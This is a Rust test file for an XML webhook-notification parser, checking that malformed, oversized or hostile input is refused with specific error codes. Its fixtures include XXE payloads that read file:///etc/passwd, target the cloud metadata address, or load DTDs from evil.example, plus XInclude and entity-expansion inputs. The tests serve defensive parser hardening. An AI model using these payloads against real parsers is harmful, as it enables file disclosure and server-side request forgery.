//! What is not a notification, and the code that it is refused with.

use threescale::{Limits, Notification};

use super::{code, event};

const MALFORMED: &str = "malformed_xml";
const DOCTYPE: &str = "doctype_forbidden";
const LIMIT: &str = "limit_exceeded";
const ENTITY: &str = "unknown_entity";
const CHARACTER: &str = "invalid_character";
const ENCODING: &str = "invalid_encoding";
const OTHER: &str = "not_a_notification";
const ACCEPTED: &str = "accepted";

/// A notification with `text` where an organization's name would be.
fn around(text: &str) -> String {
    event(
        "account",
        "updated",
        &format!("<account><id>6</id><org_name>{text}</org_name></account>"),
    )
}

#[track_caller]
fn check(cases: &[(&str, &str)]) {
    for (document, expected) in cases {
        let shown: String = document.chars().take(200).collect();
        assert_eq!(code(document), *expected, "{shown}");
    }
}

#[test]
fn document_types_and_entities() {
    let body = "<event><action>a</action><type>t</type><object><t>&x;</t></object></event>";
    check(&[
        (&format!("<!DOCTYPE event>{body}"), DOCTYPE),
        (
            &format!("<!DOCTYPE event [<!ENTITY x \"y\">]>{body}"),
            DOCTYPE,
        ),
        (
            &format!("<!DOCTYPE event [<!ENTITY a \"aaaa\"><!ENTITY x \"&a;&a;&a;&a;\">]>{body}"),
            DOCTYPE,
        ),
        (
            &format!("<!DOCTYPE event [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>{body}"),
            DOCTYPE,
        ),
        (
            &format!("<!DOCTYPE event [<!ENTITY x SYSTEM \"http://169.254.169.254/\">]>{body}"),
            DOCTYPE,
        ),
        (
            &format!(
                "<!DOCTYPE event [<!ENTITY % x SYSTEM \"http://evil.example/x.dtd\"> %x;]>{body}"
            ),
            DOCTYPE,
        ),
        (
            &format!("<!DOCTYPE event SYSTEM \"http://evil.example/x.dtd\">{body}"),
            DOCTYPE,
        ),
        (
            &format!("<!DOCTYPE event PUBLIC \"-//X//Y\" \"x.dtd\">{body}"),
            DOCTYPE,
        ),
        ("<!DOCTYPE", DOCTYPE),
        ("<!DOCTYPE>", DOCTYPE),
        (
            "<!DOCTYPE html><html><body>502 Bad Gateway</body></html>",
            DOCTYPE,
        ),
        ("<!doctype html><html></html>", MALFORMED),
        (&around("<!DOCTYPE x>"), DOCTYPE),
        (&format!("{}<!DOCTYPE x>", around("a")), DOCTYPE),
        (&around("<!ENTITY x \"y\">"), MALFORMED),
        (body, ENTITY),
        (&around("&nbsp;"), ENTITY),
        (&around("&AMP;"), ENTITY),
        (&around("&a b;"), MALFORMED),
        (&around("&;"), MALFORMED),
        (&around("& "), MALFORMED),
        (&around("&amp"), MALFORMED),
        (&around("&amp&lt;"), MALFORMED),
        (&around("AT&T"), MALFORMED),
        (&around("&1;"), MALFORMED),
        (&around("&amp;&lt;&gt;&quot;&apos;"), ACCEPTED),
    ]);
}

#[test]
fn characters() {
    check(&[
        (&around("\0"), CHARACTER),
        (&around("\u{1}"), CHARACTER),
        (&around("\u{8}"), CHARACTER),
        (&around("\u{B}"), CHARACTER),
        (&around("\u{1F}"), CHARACTER),
        (&around("\u{FFFE}"), CHARACTER),
        (&around("\u{FFFF}"), CHARACTER),
        (&around("&#0;"), CHARACTER),
        (&around("&#x1;"), CHARACTER),
        (&around("&#x1f;"), CHARACTER),
        (&around("&#xD800;"), CHARACTER),
        (&around("&#xDFFF;"), CHARACTER),
        (&around("&#xFFFE;"), CHARACTER),
        (&around("&#x110000;"), CHARACTER),
        (&around("&#99999999999999999999;"), CHARACTER),
        (&around("&#;"), MALFORMED),
        (&around("&#x;"), MALFORMED),
        (&around("&#X41;"), MALFORMED),
        (&around("&#-1;"), MALFORMED),
        (&around("&#+65;"), MALFORMED),
        (&around("&#x 41;"), MALFORMED),
        (&around("&#6a;"), MALFORMED),
        (&around("\u{7F}\u{85}\u{9F}\u{FFFD}\u{10FFFF}"), ACCEPTED),
        (
            &around("&#9;&#10;&#13;&#x20;&#x10FFFF;&#xFFFD;&#0065;"),
            ACCEPTED,
        ),
        ("<event a=\"\u{1}\"/>", CHARACTER),
        ("<!--\u{1}--><event/>", CHARACTER),
        ("<?x \u{1}?><event/>", CHARACTER),
    ]);
}

#[test]
fn encodings() {
    let body = around("Zoë");
    let utf16 = |units: Vec<[u8; 2]>| units.concat();
    let little = utf16(body.encode_utf16().map(u16::to_le_bytes).collect());
    let big = utf16(body.encode_utf16().map(u16::to_be_bytes).collect());
    assert_eq!(code(&little), ENCODING);
    assert_eq!(code(&big), ENCODING);
    assert_eq!(code([&[0xFF, 0xFE], &little[..]].concat()), ENCODING);
    assert_eq!(code([&[0xFE, 0xFF], &big[..]].concat()), ENCODING);
    assert_eq!(
        code(
            body.chars()
                .flat_map(|c| u32::from(c).to_le_bytes())
                .collect::<Vec<_>>()
        ),
        ENCODING
    );
    assert_eq!(code([0x4C, 0x6F, 0xA7, 0x94]), ENCODING);
    assert_eq!(code([0x1F, 0x8B, 8, 0, 0, 0, 0, 0]), ENCODING);

    let with = |bytes: &[u8]| {
        let at = body.find('ë').unwrap();
        [&body.as_bytes()[..at], bytes, &body.as_bytes()[at + 2..]].concat()
    };
    // Latin 1, a lone continuation, overlong, a surrogate, beyond Unicode, cut short.
    for broken in [
        &[0xEB][..],
        &[0xBF],
        &[0xC0, 0xAF],
        &[0xE0, 0x80, 0xAF],
        &[0xED, 0xA0, 0x80],
        &[0xF4, 0x90, 0x80, 0x80],
        &[0xE2, 0x82],
        &[0xFE],
        &[0xFF],
    ] {
        assert_eq!(code(with(broken)), ENCODING, "{broken:x?}");
    }
    assert_eq!(code(with("ë".as_bytes())), ACCEPTED);

    let declared = |encoding: &str| body.replace("UTF-8", encoding);
    check(&[
        (&format!("\u{FEFF}{body}"), ACCEPTED),
        (&format!("\u{FEFF}\u{FEFF}{body}"), MALFORMED),
        (&around("a\u{FEFF}b"), ACCEPTED),
        (&declared("utf-8"), ACCEPTED),
        (&declared("US-ASCII"), ENCODING),
        (&around("plain").replace("UTF-8", "us-ascii"), ACCEPTED),
        (&declared("ISO-8859-1"), ENCODING),
        (&around("plain").replace("UTF-8", "ISO-8859-1"), ENCODING),
        (&declared("UTF-16"), ENCODING),
        (&declared("UTF-7"), ENCODING),
        (&declared("windows-1252"), ENCODING),
        (&declared("klingon"), ENCODING),
        (&declared(""), MALFORMED),
        (&declared("8-bit"), MALFORMED),
        (&declared("ü"), MALFORMED),
    ]);
}

#[test]
fn declarations() {
    let body = "<event><action>a</action><type>t</type><object/></event>";
    let with = |declaration: &str| format!("{declaration}{body}");
    check(&[
        (body, ACCEPTED),
        (&with("<?xml version=\"1.0\"?>"), ACCEPTED),
        (
            &with("<?xml version='1.0' encoding='UTF-8' standalone='yes' ?>\n"),
            ACCEPTED,
        ),
        (
            &with("<?xml version = \"1.0\"\n\tstandalone = \"no\"?>"),
            ACCEPTED,
        ),
        (&with("<?xml version=\"1.1\"?>"), ACCEPTED),
        (&with("<?xml version=\"2.0\"?>"), MALFORMED),
        (&with("<?xml version=\"1.\"?>"), MALFORMED),
        (&with("<?xml?>"), MALFORMED),
        (&with("<?xml ?>"), MALFORMED),
        (&with("<?xml encoding=\"UTF-8\"?>"), MALFORMED),
        (
            &with("<?xml encoding=\"UTF-8\" version=\"1.0\"?>"),
            MALFORMED,
        ),
        (
            &with("<?xml version=\"1.0\" standalone=\"yes\" encoding=\"UTF-8\"?>"),
            MALFORMED,
        ),
        (
            &with("<?xml version=\"1.0\" standalone=\"maybe\"?>"),
            MALFORMED,
        ),
        (
            &with("<?xml version=\"1.0\" encoding=\"UTF-8\" x=\"y\"?>"),
            MALFORMED,
        ),
        (
            &with("<?xml version=\"1.0\"encoding=\"UTF-8\"?>"),
            MALFORMED,
        ),
        (&with("<?xml version=1.0?>"), MALFORMED),
        (&with("<?xml version=\"1.0'?>"), MALFORMED),
        (&with("<?XML version=\"1.0\"?>"), MALFORMED),
        (&with("<?Xml?>"), MALFORMED),
        (&with(" <?xml version=\"1.0\"?>"), MALFORMED),
        (&with("<!-- --><?xml version=\"1.0\"?>"), MALFORMED),
        (
            &with("<?xml version=\"1.0\"?><?xml version=\"1.0\"?>"),
            MALFORMED,
        ),
        (&format!("{body}<?xml version=\"1.0\"?>"), MALFORMED),
        (
            &with("<?xml-stylesheet href=\"http://evil.example/x.xsl\"?>"),
            ACCEPTED,
        ),
        (&with("<?php echo '?>"), ACCEPTED),
        (&with("<??>"), MALFORMED),
        (&with("<? x?>"), MALFORMED),
        (&with("<?1?>"), MALFORMED),
        (&with("<?x"), MALFORMED),
    ]);
}

#[test]
fn markup() {
    check(&[
        (&around("<>"), MALFORMED),
        (&around("<></>"), MALFORMED),
        (&around("<1a/>"), MALFORMED),
        (&around("<-a/>"), MALFORMED),
        (&around("<.a/>"), MALFORMED),
        (&around("< a/>"), MALFORMED),
        (&around("<a/ >"), MALFORMED),
        (&around("<a / >"), MALFORMED),
        (&around("<a//>"), MALFORMED),
        (&around("</>"), MALFORMED),
        (&around("<a></ a>"), MALFORMED),
        (&around("<a></a b=\"c\">"), MALFORMED),
        (&around("<a></A>"), MALFORMED),
        (&around("<a><b></a></b>"), MALFORMED),
        (&around("</b>"), MALFORMED),
        (&around("<a"), MALFORMED),
        (&around("<a<b/>"), MALFORMED),
        (&around("<a\u{D7}/>"), MALFORMED),
        (&around("<a></a >"), ACCEPTED),
        (&around("<a />"), ACCEPTED),
        (&around("<a\n/>"), ACCEPTED),
        (&around("<é-1._:/>"), ACCEPTED),
        (&around("]]>"), MALFORMED),
        (&around("]]"), ACCEPTED),
        (&around("]&#93;>"), ACCEPTED),
        (&around("]<!-- -->]>"), ACCEPTED),
        (&around(">"), ACCEPTED),
        (&around("<![CDATA[<&]]]]><![CDATA[>]]>"), ACCEPTED),
        (&around("<![CDATA[x]]"), MALFORMED),
        (&around("<![cdata[x]]>"), MALFORMED),
        (&around("<![CDATA"), MALFORMED),
        (&around("<!-- a -- b -->"), MALFORMED),
        (&around("<!-- a --->"), MALFORMED),
        (&around("<!-->"), MALFORMED),
        (&around("<!--->"), MALFORMED),
        (&around("<!---->"), ACCEPTED),
        (&around("<!-- - -->"), ACCEPTED),
        (&around("<!-- <a> &x; ]]> -->"), ACCEPTED),
        (&around("<!-- x"), MALFORMED),
        (&around("<!x>"), MALFORMED),
        (&around("<!>"), MALFORMED),
    ]);
}

#[test]
fn attributes() {
    check(&[
        (&around("<a b/>"), MALFORMED),
        (&around("<a b=/>"), MALFORMED),
        (&around("<a b=c/>"), MALFORMED),
        (&around("<a =\"c\"/>"), MALFORMED),
        (&around("<a \"c\"/>"), MALFORMED),
        (&around("<a b=\"c/>"), MALFORMED),
        (&around("<a b=\"c'/>"), MALFORMED),
        (&around("<a b=\"c\"d=\"e\"/>"), MALFORMED),
        (&around("<a b=\"c\" b=\"c\"/>"), MALFORMED),
        (&around("<a b=\"<\"/>"), MALFORMED),
        (&around("<a b=\"&x;\"/>"), ENTITY),
        (&around("<a b=\"&\"/>"), MALFORMED),
        (&around("<a b=\"&amp\"/>"), MALFORMED),
        (&around("<a b=\"&#1;\"/>"), CHARACTER),
        (&around("<a 1=\"c\"/>"), MALFORMED),
        (&around("<a b=\"c\" /b=\"c\">"), MALFORMED),
        (&around("<a b = 'c\"&gt;>&apos;' ç=\"\"/>"), ACCEPTED),
        (
            &around(
                "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"file:///etc/passwd\"/>",
            ),
            ACCEPTED,
        ),
        (
            &around("<a xsi:schemaLocation=\"http://evil.example/x.xsd\"/>"),
            ACCEPTED,
        ),
        (&around("<undeclared:a/>"), ACCEPTED),
    ]);
}

#[test]
fn roots() {
    let body = around("a");
    check(&[
        ("", MALFORMED),
        (" \n\t", MALFORMED),
        ("<!-- only a comment -->", MALFORMED),
        (&format!("{body}{body}"), MALFORMED),
        (&format!("{body}<a/>"), MALFORMED),
        (&format!("text{body}"), MALFORMED),
        (&format!("{body}text"), MALFORMED),
        (&format!("{body}&amp;"), MALFORMED),
        (&format!("&#32;{}", "<event/>"), MALFORMED),
        (&format!("{body}<![CDATA[]]>"), MALFORMED),
        (&format!("{body}</event>"), MALFORMED),
        (&format!("{body}\0"), CHARACTER),
        (&format!("{body} \r\n<!-- end --><?pi?>\n"), ACCEPTED),
        ("{\"type\":\"account\"}", MALFORMED),
        ("params[xml]=%3Cevent%3E", MALFORMED),
        (
            "<html><head><title>502</title></head><body><hr><center>nginx</center></body></html>",
            MALFORMED,
        ),
    ]);
}

#[test]
fn well_formed_but_no_notification() {
    let with = |inside: &str| format!("<event>{inside}</event>");
    let (action, kind, object) = ("<action>a</action>", "<type>t</type>", "<object/>");
    check(&[
        ("<html><head/><body>Hello</body></html>", OTHER),
        ("<events/>", OTHER),
        ("<Event/>", OTHER),
        ("<event/>", OTHER),
        (&with(&format!("{action}{kind}")), OTHER),
        (&with(&format!("{action}{object}")), OTHER),
        (&with(&format!("{kind}{object}")), OTHER),
        (&with(&format!("{action}{kind}{object}{object}")), OTHER),
        (&with(&format!("{action}{action}{kind}{object}")), OTHER),
        (&with(&format!("<action/>{kind}{object}")), OTHER),
        (&with(&format!("<action> </action>{kind}{object}")), OTHER),
        (&with(&format!("{action}<type>a/b</type>{object}")), OTHER),
        (&with(&format!("{action}<type>a b</type>{object}")), OTHER),
        (
            &with(&format!("{action}<type>{}</type>{object}", "t".repeat(65))),
            OTHER,
        ),
        (
            &with(&format!("{action}<type x=\"y\">t</type>{object}")),
            OTHER,
        ),
        (&with(&format!("{action}<type>t<x/></type>{object}")), OTHER),
        (
            &with(&format!("<wrap>{action}{kind}{object}</wrap>")),
            OTHER,
        ),
        (
            &format!("<event xmlns=\"urn:x\">{action}{kind}{object}</event>"),
            OTHER,
        ),
        (
            &format!("<n:event xmlns:n=\"urn:x\">{action}{kind}{object}</n:event>"),
            OTHER,
        ),
        (&with(&format!("{object}{kind}{action}")), ACCEPTED),
        (
            &with(&format!("\n {kind}\n {action}\n {object}\n")),
            ACCEPTED,
        ),
    ]);
}

#[test]
fn limits() {
    let deep = |depth: usize| around(&format!("{}{}", "<a>".repeat(depth), "</a>".repeat(depth)));
    let wide = |count: usize| {
        let attributes = (0..count)
            .map(|n| format!(" a{n}=\"\""))
            .collect::<Vec<_>>()
            .concat();
        around(&format!("<a{attributes}/>"))
    };
    // event, object, account and org_name are four of the 32.
    check(&[
        (&deep(28), ACCEPTED),
        (&deep(29), LIMIT),
        (&around(&"<a>".repeat(300_000)), LIMIT),
        (&wide(32), ACCEPTED),
        (&wide(33), LIMIT),
        (&wide(70_000), LIMIT),
        (&around(&"<a/>".repeat((1 << 17) - 7)), ACCEPTED),
        (&around(&"<a/>".repeat(1 << 17)), LIMIT),
        (&around(&"x".repeat(1 << 18)), ACCEPTED),
        (&around(&"x".repeat((1 << 18) + 1)), LIMIT),
        (&around(&"<![CDATA[xxxxxxxxxx]]>".repeat(27_000)), LIMIT),
        (&around(&"&amp;x".repeat(140_000)), LIMIT),
        (
            &around(&format!("<a b=\"{}\"/>", "x".repeat((1 << 18) + 1))),
            LIMIT,
        ),
        (&around(&"x".repeat(1 << 20)), LIMIT),
        (
            &around(&format!("<!-- {} -->", "x".repeat(1 << 19))),
            ACCEPTED,
        ),
        (&around(&format!("<{}/>", "x".repeat(1 << 19))), ACCEPTED),
    ]);
    let body = around("a");
    let exact = Limits {
        bytes: body.len(),
        ..Limits::default()
    };
    assert!(Notification::parse_with(body.as_bytes(), &exact).is_ok());
    let less = Limits {
        bytes: body.len() - 1,
        ..Limits::default()
    };
    assert_eq!(
        Notification::parse_with(body.as_bytes(), &less)
            .unwrap_err()
            .code(),
        LIMIT
    );
    let bottomless = Limits {
        depth: usize::MAX,
        bytes: usize::MAX,
        ..Limits::default()
    };
    let error = Notification::parse_with(deep(200).as_bytes(), &bottomless).unwrap_err();
    assert_eq!(
        error.to_string(),
        "line 1, column 499: elements are more than 128 deep"
    );
}

#[test]
fn an_error_says_what_and_where_but_no_value() {
    let text = |document: &str| {
        Notification::parse(document.as_bytes())
            .unwrap_err()
            .to_string()
    };
    assert_eq!(
        text(""),
        "line 1, column 1: the document has no root element"
    );
    assert_eq!(
        text("<event>\r\n<action>é&x;"),
        "line 2, column 10: found `&x;`, expected &amp; &lt; &gt; &quot; or &apos;"
    );
    assert_eq!(
        text("\u{FEFF}<event>\r\r<a>"),
        "line 3, column 4: the document ends too early, expected `</a>`"
    );
    assert_eq!(
        text("<order/>"),
        "line 1, column 1: found <order>, expected <event>"
    );
    let secret = "s3cr3t";
    for document in [
        format!("<event a=\"{secret}\" a=\"{secret}\"/>"),
        format!("<event a={secret}/>"),
        format!("<event></event a=\"{secret}\">"),
        format!("<event></event\n=>{secret}</event>"),
        format!("<event>{secret}]]></event>"),
        format!("<event><type>{secret} {secret}</type><action>a</action><object/></event>"),
        format!("<event>{secret}\u{1}</event>"),
        format!("<event/>{secret}"),
        format!("<!DOCTYPE {secret}>"),
        format!("<?xml version=\"{secret}\"?>"),
    ] {
        assert!(!text(&document).contains(secret), "{}", text(&document));
    }
    // Names are quoted, but not without end.
    assert!(text(&format!("<event><{}></event>", "n".repeat(10_000))).len() < 300);
}
